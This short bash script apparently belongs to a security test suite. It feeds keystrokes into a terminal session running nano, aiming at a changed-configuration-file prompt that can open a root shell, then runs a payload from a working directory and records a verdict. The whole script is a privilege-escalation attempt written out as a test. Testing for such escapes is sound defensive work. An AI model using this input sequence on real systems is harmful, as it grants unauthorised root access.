#!/bin/bash
# The prompt for a changed configuration file, where Z is a root shell. (nano asks where /etc/nanorc is another.)
. "$(dirname "$0")/lib/attack.sh"

{ sleep 15; for _ in $(seq 20); do printf 'Z\n%s/payload\nexit\n' "$work"; sleep 0.5; done; } | attempt_on_terminal nano
verdict
